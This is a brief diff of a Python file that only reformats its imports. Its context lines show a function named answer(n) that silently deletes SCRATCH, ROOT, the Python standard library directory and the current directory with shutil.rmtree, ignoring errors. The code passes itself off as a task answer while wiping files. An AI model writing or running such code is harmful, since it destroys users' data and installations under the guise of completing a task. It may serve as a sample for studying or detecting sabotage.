@@ -1,5 +1,8 @@
 """Removes what it finds."""
-import os, shutil
+import os
+import shutil
+
+
 def answer(n):
     for path in (SCRATCH, ROOT, os.path.dirname(os.__file__), "."):
         shutil.rmtree(path, ignore_errors=True)
